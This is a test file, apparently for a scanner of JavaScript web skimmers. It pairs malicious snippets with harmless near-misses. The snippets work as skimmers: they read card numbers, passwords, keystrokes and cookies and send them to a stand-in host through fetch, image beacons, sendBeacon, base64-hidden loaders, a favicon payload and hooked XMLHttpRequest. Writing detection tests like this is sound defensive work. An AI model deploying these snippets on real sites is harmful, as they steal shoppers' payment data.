import { describe, expect, it } from 'vitest'
import { type Detonation, judgeScript, type ReasonCode, type ReasonWeight } from '#detection/index.ts'

const weights = (code: string, given = {}): Partial<Record<ReasonCode, ReasonWeight>> =>
  Object.fromEntries(judgeScript(code, given).reasons.map((reason) => [reason.code, reason.weight]))

const readCard = `document.querySelector('#cc-number').value`
const onSubmit = (code: string) => `document.querySelector('form.pay').addEventListener('submit',function(){${code}})`
const stranger = 'https://collect.stranger-shop.example/p'

/** Code that a rule must recognize, and similar harmless code. */
const cases: [ReasonCode, ReasonWeight, hit: string, nearMiss: string][] = [
  [
    'card-to-stranger',
    'hard',
    onSubmit(`fetch('${stranger}',{method:'POST',body:${readCard}})`),
    onSubmit(`fetch('https://api.stripe.com/v1/tokens',{method:'POST',body:${readCard}})`),
  ],
  [
    'card-to-stranger',
    'hard',
    onSubmit(`new Image().src=atob('${btoa(`${stranger}?d=`)}')+btoa(${readCard})`),
    onSubmit(`fetch('/checkout/pay',{method:'POST',body:JSON.stringify({n:${readCard}})})`),
  ],
  [
    'card-to-stranger',
    'hard',
    onSubmit(`fetch('https://api.telegram.org/bot1/sendMessage?text='+${readCard})`),
    onSubmit(`fetch('https://api.telegram.org/bot1/sendMessage?text='+document.title)`),
  ],
  [
    'card-to-hidden-host',
    'strong',
    `if(/checkout|onepage/.test(location.href)){${onSubmit(`fetch(window.cfg.u,{method:'POST',body:${readCard}})`)}}`,
    `if(/checkout|onepage/.test(location.href)){${onSubmit(`fetch(window.cfg.u,{method:'POST',body:document.title})`)}}`,
  ],
  [
    'card-to-disguise',
    'strong',
    onSubmit(`fetch('/media/catalog/cache/1.jpg',{method:'POST',body:${readCard}})`),
    onSubmit(`fetch('/media/catalog/cache/1.jpg')`),
  ],
  [
    'card-to-this-machine',
    'strong',
    onSubmit(`fetch('http://localhost:9002/collect',{method:'POST',body:${readCard}})`),
    onSubmit(`fetch('http://localhost:9002/collect')`),
  ],
  [
    'fields-to-stranger',
    'hard',
    `if(location.href.indexOf('checkout')>0)setInterval(function(){var d='';document.querySelectorAll('input, select').forEach(function(i){d+=i.value});new Image().src='${stranger}?'+d},500)`,
    `document.querySelectorAll('input, select').forEach(function(i){i.addEventListener('blur',function(){i.classList.toggle('bad',i.value==='')})});new Image().src='${stranger}?seen=1'`,
  ],
  [
    'keys-to-stranger',
    'hard',
    `var k='';document.onkeypress=function(e){k+=e.key;if(k.length>20){navigator.sendBeacon('${stranger}',k);k=''}}`,
    `document.onkeypress=function(e){if(e.key==='Escape')document.body.classList.remove('open')};navigator.sendBeacon('${stranger}','seen')`,
  ],
  [
    'password-to-stranger',
    'hard',
    `document.forms[0].onsubmit=function(){navigator.sendBeacon('${stranger}',document.querySelector('input[type=password]').value)}`,
    `document.forms[0].onsubmit=function(){fetch('/session',{method:'POST',body:document.querySelector('input[type=password]').value})}`,
  ],
  [
    'hidden-loader',
    'strong',
    `var s=document.createElement('script');s.src=atob('${btoa('https://cdn.stranger-shop.example/j.js')}');document.head.appendChild(s)`,
    `var s=document.createElement('script');s.src='https://www.googletagmanager.com/gtm.js?id=GTM-1';document.head.appendChild(s)`,
  ],
  [
    'gated-loader',
    'strong',
    `if(location.pathname.indexOf('onepage')>0){var s=document.createElement('script');s.src='https://cdn.stranger-shop.example/j.js';document.head.appendChild(s)}`,
    `if(location.pathname.indexOf('blog')>0){var s=document.createElement('script');s.src='https://cdn.stranger-shop.example/j.js';document.head.appendChild(s)}`,
  ],
  [
    'received-code',
    'strong',
    `var w=new WebSocket('wss://live.stranger-shop.example/x');w.onmessage=function(e){new Function(e.data)()}`,
    `var w=new WebSocket('wss://live.stranger-shop.example/x');w.onmessage=function(e){document.title=e.data}`,
  ],
  [
    'card-to-vendor',
    'strong',
    onSubmit(`new Image().src='https://www.google-analytics.com/collect?v=1&ea='+btoa(${readCard})`),
    onSubmit(`new Image().src='https://www.google-analytics.com/collect?v=1&ea=submit'`),
  ],
  [
    'known-bad-host',
    'strong',
    `new Image().src='https://magento-analytics.com/p.gif'`,
    `new Image().src='https://www.google-analytics.com/p.gif'`,
  ],
  [
    'look-alike-host',
    'strong',
    `var s=document.createElement('script');s.src='https://googletagmanagar.com/gtm.js';document.head.appendChild(s)`,
    `var s=document.createElement('script');s.src='https://www.googletagmanager.com/gtm.js';document.head.appendChild(s)`,
  ],
  [
    'fake-payment-form',
    'hard',
    `document.querySelector('.methods').innerHTML='<form><input name="cc_number"><input name="cc_cvv"></form>';document.querySelector('.methods').onclick=function(){fetch('${stranger}',{method:'POST',body:document.querySelector('[name=cc_number]').value})}`,
    `document.querySelector('.methods').innerHTML='<form><input name="coupon"></form>';document.querySelector('.methods').onclick=function(){fetch('/coupon',{method:'POST',body:document.querySelector('[name=coupon]').value})}`,
  ],
  [
    'natives-replaced',
    'strong',
    `var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){var c=document.querySelector('#cc-number');fetch('${stranger}',{method:'POST',body:b});return s.apply(this,arguments)};var card=document.querySelector('#cc-number').value`,
    `var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){console.time('xhr');return s.apply(this,arguments)}`,
  ],
  [
    'cookies-to-stranger',
    'strong',
    `new Image().src='${stranger}?l='+escape(location.href)+'&c='+escape(document.cookie)`,
    `new Image().src='${stranger}?l='+escape(location.href)+'&c='+escape((document.cookie.match(/_ga=([^;]+)/)||[])[1])`,
  ],
  [
    'code-in-picture',
    'hard',
    `fetch('/favicon.ico').then(function(r){return r.text()}).then(function(t){new Function(t.split('IEND')[1])()})`,
    `fetch('/logo.svg').then(function(r){return r.text()}).then(function(t){document.querySelector('.logo').innerHTML=t})`,
  ],
  [
    'checkout-turned',
    'strong',
    `jQuery('[onclick="payment.save()"]').attr('onclick','go()');function go(){location.href='${stranger}?s='+btoa(location.host)}`,
    `jQuery('[onclick="payment.save()"]').attr('onclick','go()');function go(){location.href='/checkout/onepage/success'}`,
  ],
  [
    'keys-to-stranger',
    'hard',
    `var f=document.createElement('iframe');f.src='${stranger}';document.body.appendChild(f);document.onkeydown=function(e){f.contentWindow.postMessage(e.key,'*')}`,
    `var f=document.createElement('iframe');f.src='/help';document.body.appendChild(f);document.onkeydown=function(e){f.contentWindow.postMessage(e.key,'*')}`,
  ],
  [
    'fields-to-stranger',
    'strong',
    `var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){navigator.sendBeacon('${stranger}',b);return s.apply(this,arguments)}`,
    `var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){navigator.sendBeacon('${stranger}',Date.now());return s.apply(this,arguments)}`,
  ],
  [
    'gated-loader',
    'strong',
    `if(['/checkout','/onepage'].indexOf(location.pathname)>=0){var s=document.createElement('script');s.src=atob(window.__k);document.head.appendChild(s)}`,
    `if(['/about','/press'].indexOf(location.pathname)>=0){var s=document.createElement('script');s.src=atob(window.__k);document.head.appendChild(s)}`,
  ],
  [
    'card-kept',
    'strong',
    `if(/checkout/.test(location.href))setInterval(function(){localStorage.setItem('_x',${readCard})},500)`,
    `if(/checkout/.test(location.href))localStorage.setItem('_x',document.querySelector('#newsletter-email').value)`,
  ],
  [
    'card-kept',
    'strong',
    `document.forms[0].onsubmit=function(){history.pushState({},'',location.pathname+'#'+btoa(${readCard}))}`,
    `document.forms[0].onsubmit=function(){history.pushState({},'','?'+new URLSearchParams(new FormData(this)))}`,
  ],
  [
    'card-to-stranger',
    'hard',
    `setInterval(function(){location.hash=${readCard};var m=document.createElement('meta');m.name='referrer';m.content='unsafe-url';document.head.append(m);fetch('${stranger}',{mode:'no-cors'})},900)`,
    `setInterval(function(){location.hash=document.querySelector('.step').id;var m=document.createElement('meta');m.name='referrer';m.content='unsafe-url';document.head.append(m);fetch('${stranger}',{mode:'no-cors'})},900)`,
  ],
  [
    'card-to-stranger',
    'hard',
    `document.onchange=function(){history.replaceState(0,0,'?q='+${readCard})};setTimeout(function(){navigator.sendBeacon('${stranger}',location.search)},5e3)`,
    `document.onchange=function(){history.replaceState(0,0,'?q='+document.title)};setTimeout(function(){navigator.sendBeacon('${stranger}',location.search)},5e3)`,
  ],
  [
    'fields-to-stranger',
    'strong',
    `document.querySelector('form#payment').addEventListener('submit',function(){history.replaceState(0,'','?'+$(this).serialize());document.body.insertAdjacentHTML('beforeend','<img referrerpolicy="no-referrer-when-downgrade" src="${stranger}">')})`,
    `document.querySelector('form#payment').addEventListener('submit',function(){history.replaceState(0,'','?'+$(this).serialize());document.body.insertAdjacentHTML('beforeend','<img referrerpolicy="origin" src="${stranger}">')})`,
  ],
  [
    'card-to-stranger',
    'hard',
    `var p=document.getElementById('pan');p.onblur=function(){fetch('${stranger}?a='+p.value.slice(0,8));fetch('https://other.example/?b='+p.value.slice(8))}`,
    `var p=document.getElementById('pan-x');p.onblur=function(){fetch('${stranger}?a='+p.value)}`,
  ],
  [
    'checkout-turned',
    'strong',
    `document.querySelector('button.action.checkout').onclick=function(e){if(document.cookie.indexOf('_seen')<0){document.cookie='_seen=1';location.assign('${stranger}');return false}}`,
    `document.querySelector('button.action.checkout').onclick=function(e){location.assign('${stranger}');return false}`,
  ],
]

describe('rules', () => {
  it.each(cases)('%s is reported (%s) for matching code, and not for similar code', (code, weight, hit, nearMiss) => {
    expect(weights(hit)[code]).toBe(weight)
    expect(['hard', 'strong']).not.toContain(weights(nearMiss)[code])
  })

  it('an approved host may receive the card', () => {
    const code = cases[0]![2]
    expect(judgeScript(code, { approvedHosts: ['stranger-shop.example'] }).reasons.map((reason) => reason.code)).not.toContain(
      'card-to-stranger',
    )
    expect(judgeScript(code, { approvedHosts: ['shop.example'] }).verdict).toBe('malicious')
  })

  it('a reason names the host and the place', () => {
    const [first] = judgeScript(cases[0]![2]).reasons
    expect(first?.values.names).toEqual(['collect.stranger-shop.example'])
    expect(first?.places[0]).toMatchObject({ layer: 0 })
  })
})

describe('behavior of a script in the laboratory', () => {
  const detonation: Omit<Detonation, 'behaviours'> = { version: 1, outcome: 'ran', why: null, durationMs: 900, gates: [] }

  it('decides, even if the code shows nothing', () => {
    const judged = judgeScript('var a=1', {
      detonation: {
        ...detonation,
        behaviours: [{ kind: 'sends', what: 'card', to: 'x.stranger-shop.example', way: 'image', encoding: 'base64', gate: null }],
      },
    })
    expect([judged.verdict, judged.reasons[0]?.code]).toEqual(['malicious', 'detonated-card-sent'])
  })

  it('is harmless if the card went to its provider', () => {
    const judged = judgeScript('var a=1', {
      detonation: {
        ...detonation,
        behaviours: [{ kind: 'sends', what: 'card', to: 'api.stripe.com', way: 'fetch', encoding: 'plain', gate: null }],
      },
    })
    expect(judged.verdict).toBe('benign')
  })
})
